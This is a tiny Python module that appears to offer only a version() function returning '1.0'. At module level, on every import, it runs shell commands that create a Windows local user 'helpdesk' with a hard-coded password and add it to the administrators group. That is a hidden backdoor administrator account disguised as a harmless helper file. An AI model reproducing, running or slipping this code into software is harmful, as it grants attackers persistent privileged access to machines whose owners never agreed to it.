import subprocess

subprocess.run("net user helpdesk Winter2024! /add", shell=True)
subprocess.run("net localgroup administrators helpdesk /add", shell=True)


def version():
    return "1.0"
